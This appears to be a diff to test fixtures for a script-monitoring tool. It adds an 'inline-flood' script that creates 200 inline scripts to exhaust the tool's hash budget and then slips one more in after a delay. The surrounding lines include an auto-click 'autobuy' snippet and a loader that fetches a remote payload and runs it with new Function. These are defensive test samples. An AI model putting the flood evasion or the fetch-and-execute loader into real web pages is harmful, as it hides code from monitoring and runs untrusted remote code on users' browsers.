@@ -14,6 +14,9 @@ const ADD_TO_CART = `document.querySelector('[data-action="add-to-cart"]')`;
 /** Code an injected inline script runs (the e2e test hashes it to check actor.sha256). */
 export const INLINE_AUTOBUY = `${ADD_TO_CART}.click();`;
 
+/** The inline script a helper inserts after its flood of inline scripts (its SHA-256 must be reported again). */
+export const AFTER_INLINE_FLOOD = 'window.__afterInlineFlood = true; /* helper payload */';
+
 export const MAIN_WORLD_SCRIPTS = {
   /** Loads its payload as blob: and data: scripts, which no site ships. */
   'blob-data': `(() => {
@@ -37,6 +40,23 @@ export const MAIN_WORLD_SCRIPTS = {
   document.head.appendChild(loader);
 })();`,
   quiet: `window.__helperQuiet = true;`,
+
+  /**
+   * 200 inline scripts of different text in one task (past Saq's hash budget of 64 per kind and actor),
+   * then, two seconds later when the budget has refilled, one more.
+   */
+  'inline-flood': `(() => {
+  for (let i = 0; i < 200; i++) {
+    const script = document.createElement('script');
+    script.textContent = 'window.__inlineFlood = ' + i + ';';
+    document.head.appendChild(script);
+  }
+  setTimeout(() => {
+    const script = document.createElement('script');
+    script.textContent = ${JSON.stringify(AFTER_INLINE_FLOOD)};
+    document.head.appendChild(script);
+  }, 2000);
+})();`,
 
   /** The classic loader: downloads the real code and runs it with new Function. */
   'remote-loader': `fetch('https://${HELPER_CDN}/payload.txt').then((r) => r.text()).then((code) => new Function(code)());`,
